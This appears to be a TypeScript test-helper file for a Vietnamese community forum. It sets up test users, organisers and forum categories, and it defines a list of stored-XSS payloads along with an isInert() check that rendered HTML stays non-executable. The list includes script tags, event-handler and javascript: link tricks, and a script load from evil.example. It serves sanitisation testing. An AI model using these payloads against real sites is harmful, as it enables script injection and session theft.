import '~/domain/places.server';

import type { DB } from '~/db/connection';
import { grantRole } from '~/domain/accounts.server';
import { processOutbox } from '~/domain/discussion/outbox.server';
import { reply as postReply } from '~/domain/discussion/posts.server';
import { createCategory } from '~/domain/forums/forums.server';
import { createUnit } from '~/domain/units.server';
import { newId } from '~/lib/ids.server';

import { makeUser } from '../helpers/users';

const DAY = 24 * 3600_000;

/**
 * A province with a ward under it; an organiser for each; a public and a members-only category
 * in the ward. `user()` makes a new member; `established()` an account older than a day that has
 * read a thread (new-member limits lifted).
 */
export type CommunityWorld = Awaited<ReturnType<typeof communityWorld>>;

export async function communityWorld(db: DB, now = new Date()) {
  const province = await createUnit(db, { parentId: null, kind: 'province', slug: `p-${newId(6)}`, name: 'Tỉnh thử' });
  const ward = await createUnit(db, { parentId: province.id, kind: 'ward', slug: `w-${newId(6)}`, name: 'Phường thử' });
  const other = await createUnit(db, { parentId: province.id, kind: 'ward', slug: `o-${newId(6)}`, name: 'Phường khác' });
  let n = 0;
  const user = (opts: { name?: string; birthYear?: number | null; homeUnitId?: string | null; ageDays?: number } = {}) =>
    makeUser(db, opts.name ?? `Thành viên ${++n}`, {
      birthYear: opts.birthYear,
      homeUnitId: opts.homeUnitId,
      createdAt: new Date(now.getTime() - (opts.ageDays ?? 0) * DAY).toISOString(),
    });
  const wardOrganiser = await user({ name: 'Tổ chức Phường', ageDays: 30 });
  const provinceOrganiser = await user({ name: 'Tổ chức Tỉnh', ageDays: 30 });
  await grantRole(db, { userId: wardOrganiser, unitId: ward.id, role: 'organiser', grantedBy: null });
  await grantRole(db, { userId: provinceOrganiser, unitId: province.id, role: 'organiser', grantedBy: null });
  const mk = async (name: string, visibility: 'public' | 'members') => {
    const r = await createCategory(
      db,
      wardOrganiser,
      { unitId: ward.id, name, slug: `c-${newId(8)}`, description: 'Mô tả', visibility, weekYear: null },
      now,
    );
    if (!r.ok) throw new Error(r.code);
    const c = await db.selectFrom('forum_categories').select('id').where('slug', '=', r.value.slug).executeTakeFirstOrThrow();
    return { type: 'forum', id: c.id };
  };
  const pub = await mk('Công dân số', 'public');
  const members = await mk('Góc của phường', 'members');
  /** A thread everyone has read, so that members can be "established". */
  const readable = newId();
  const iso = new Date(now.getTime() - 3 * DAY).toISOString();
  await db
    .insertInto('disc_threads')
    .values({
      id: readable,
      place_type: 'forum',
      place_id: pub.id,
      unit_id: ward.id,
      title: 'Chào mừng',
      author_id: wardOrganiser,
      status: 'visible',
      pinned: 1,
      locked: 0,
      slow_mode_s: 0,
      last_post_no: 0,
      reply_count: 0,
      created_at: iso,
      last_post_at: iso,
    })
    .execute();
  const hasRead = (id: string) =>
    db.insertInto('disc_reads').values({ thread_id: readable, user_id: id, last_read_no: 0, updated_at: now.toISOString() }).execute();
  const established = async (opts: { name?: string; birthYear?: number | null; homeUnitId?: string | null } = {}) => {
    const id = await user({ ...opts, ageDays: 2 });
    await hasRead(id);
    return id;
  };
  await hasRead(wardOrganiser);
  await hasRead(provinceOrganiser);
  return { province, ward, other, pub, members, user, established, wardOrganiser, provinceOrganiser };
}

/** Stored-XSS payloads: script, handlers, javascript:/data: links, SVG, Markdown tricks, entities. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">bấm</a>',
  '<a href="JaVaScRiPt:alert(1)">bấm</a>',
  '<a href="&#106;avascript:alert(1)">bấm</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
  '[bấm](javascript:alert(1))',
  '[bấm](JAVASCRIPT:alert(1))',
  '[bấm](data:text/html,<script>alert(1)</script>)',
  '![ảnh](javascript:alert(1))',
  '![ảnh](x" onerror="alert(1))',
  '[a](https://x.example" onclick="alert(1))',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '"><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
] as const;

/** True when rendered HTML carries nothing executable (text may mention anything; tags and attributes may not). */
export function isInert(html: string): boolean {
  const tags = html.match(/<[a-z][^>]*>/gi) ?? [];
  return tags.every(
    (tag) =>
      !/^<\s*(script|iframe|object|embed|svg|math|style|meta|link|form|input|body|video|source|base)\b/i.test(tag) &&
      !/\son[a-z]+\s*=/i.test(tag) &&
      !/(href|src|action|data|formaction)\s*=\s*["']?\s*(javascript|data|vbscript):/i.test(tag) &&
      !/\sstyle\s*=/i.test(tag),
  );
}

/**
 * A reply followed by a step of the `community:outbox` job: forum replies leave their notices to it
 * (public forums defer them), and the tests look at notices right after a reply.
 */
export async function reply(...args: Parameters<typeof postReply>): ReturnType<typeof postReply> {
  const r = await postReply(...args);
  await processOutbox(args[0]);
  return r;
}
